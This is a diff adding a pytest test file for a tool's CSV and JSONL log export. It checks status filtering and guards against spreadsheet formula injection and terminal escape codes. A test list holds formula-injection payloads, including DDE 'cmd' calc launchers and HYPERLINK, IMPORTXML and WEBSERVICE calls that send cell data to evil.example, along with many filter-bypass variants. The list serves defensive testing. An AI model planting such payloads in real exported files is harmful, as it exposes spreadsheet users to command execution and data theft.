@@ -1,0 +1,179 @@
+"""A log as a file that `run` accepts and a spreadsheet opens without harm."""
+
+import csv
+import io
+from collections.abc import Callable, Iterable, Iterator
+from dataclasses import replace
+from typing import Any
+
+import orjson
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from bulkpause.model import Item, Record, Status
+from bulkpause.report.export import COLUMNS, NOT_ATTEMPTED, Row, as_csv, as_jsonl, rows
+
+
+RECORDS = [
+    Record(id="1", status=Status.PAUSED, http_status=204, row=2),
+    Record(id="2", status=Status.FAILED, http_status=500, trace_id="t-2", row=3),
+    Record(id=None, status=Status.INVALID, row=4),
+]
+LEFT = [Item(id="3", row=5)]
+
+
+def exported(*statuses: str) -> list[dict[str, Any]]:
+    return list(rows(RECORDS, LEFT, frozenset(statuses)))
+
+
+def cells_of(message: str) -> list[str]:
+    (row,) = rows(
+        [Record(id="1", status=Status.FAILED, message=message)], [], frozenset(Status)
+    )
+    text = "".join(as_csv([row]))
+    (_, cells) = csv.reader(io.StringIO(text, newline=""))
+    return cells
+
+
+@pytest.mark.parametrize(
+    ("statuses", "ids"),
+    [
+        (("paused",), ["1"]),
+        (("failed", "paused"), ["1", "2"]),
+        (("failed", NOT_ATTEMPTED), ["2", "3"]),
+        (("unknown",), []),
+    ],
+    ids=str,
+)
+def test_ids_are_chosen_by_their_status(statuses: list[str], ids: list[str]) -> None:
+    assert [row["campaign_id"] for row in exported(*statuses)] == ids
+
+
+def test_a_row_without_an_id_is_left_out() -> None:
+    assert exported("invalid") == []
+
+
+def test_what_was_not_attempted_says_so() -> None:
+    (row,) = exported(NOT_ATTEMPTED)
+    assert (row["status"], row["row"], row["http_status"]) == ("not_attempted", 5, None)
+
+
+def test_csv_has_a_heading_even_without_rows() -> None:
+    assert "".join(as_csv([])) == ",".join(COLUMNS) + "\n"
+
+
+def test_the_ids_stand_where_run_looks_for_them() -> None:
+    assert COLUMNS[0] == "campaign_id"
+
+
+def test_each_line_of_json_is_one_id() -> None:
+    lines = "".join(as_jsonl(exported("paused", "failed"))).splitlines()
+    found = [orjson.loads(line) for line in lines]
+    assert [(row["campaign_id"], row["status"]) for row in found] == [
+        ("1", "paused"),
+        ("2", "failed"),
+    ]
+    assert all(list(row) == list(COLUMNS) for row in found)
+
+
+#: What spreadsheets have taken for a formula, and what has got past a filter.
+FORMULAS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?"&A1,"click")',
+    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
+    '=WEBSERVICE("http://evil.example")',
+    '=DDE("cmd";"/C calc";"x")',
+    "=1;=1",
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!D2",
+    "@SUM(1+1)",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "|cmd",
+    "%0A=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\r\n=1+1",
+    "\v\f=1+1",
+    " =1+1",
+    "   @SUM(1)",
+    "\xa0=1+1",
+    "\N{IDEOGRAPHIC SPACE}=1+1",
+    "\N{EM SPACE}+1",
+    "\ufeff=1+1",
+    "\N{ZERO WIDTH SPACE}=1+1",
+    "\N{RIGHT-TO-LEFT OVERRIDE}=1+1",
+    "\x00=1+1",
+    "\x1b=1+1",
+    "\x85=1+1",
+    "\N{LINE SEPARATOR}=1+1",
+    "\N{FULLWIDTH EQUALS SIGN}1+1",
+    "\N{FULLWIDTH PLUS SIGN}1+1",
+    "\N{FULLWIDTH HYPHEN-MINUS}1+1",
+    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
+    '"=1+1"',
+    '"",=1+1',
+    "'=1+1",
+    "x;=1+1",
+    "x; =1+1",
+    'x;"=1+1"',
+    'x";=1+1;"',
+    "x,=1+1",
+    "x\t=1+1",
+    "x\n=1+1",
+    'x"\n=1+1,"',
+]
+
+
+@pytest.mark.parametrize("column", ["title", "message", "trace_id", "campaign_status"])
+@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
+def test_no_words_are_a_formula_however_cells_are_parted(
+    formula: str, column: str
+) -> None:
+    words: dict[str, Any] = {column: formula}
+    record = replace(RECORDS[1], **words)
+    text = "".join(as_csv(rows([record], [], frozenset(Status))))
+
+    assert text.count("\n") == 2
+    for delimiter in (",", ";", "\t"):
+        for cells in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
+            assert not [cell for cell in cells if is_formula(cell)]
+
+
+def is_formula(cell: str) -> bool:
+    """Judge as a spreadsheet does that drops what can not be seen."""
+    return (
+        cell.strip()
+        .strip('"')
+        .strip()
+        .startswith(tuple("=+-@|%\uff1d\uff0b\uff0d\uff20"))
+    )
+
+
+def test_words_that_are_none_are_left_as_they_are() -> None:
+    message = 'Größe = 2-1; a + b, 50 % @ [x] "quoted"'
+    assert cells_of(message)[COLUMNS.index("message")] == message
+
+
+@pytest.mark.parametrize("format_", [as_csv, as_jsonl])
+def test_nothing_that_is_exported_steers_a_terminal(
+    format_: Callable[[Iterable[Row]], Iterator[str]],
+) -> None:
+    record = Record(
+        id="1", status=Status.FAILED, message="a\x1b[2J\x9b\N{RIGHT-TO-LEFT OVERRIDE}b"
+    )
+    text = "".join(format_(rows([record], [], frozenset(Status))))
+
+    assert text.replace("\n", "").isprintable()
+
+
+@given(message=st.text(st.characters(exclude_categories=["Cs"])))
+def test_any_message_stays_in_its_cell(message: str) -> None:
+    cells = cells_of(message)
+    assert len(cells) == len(COLUMNS)
+    assert not is_formula(cells[COLUMNS.index("message")])
+    assert not any("\n" in cell or "\r" in cell for cell in cells)
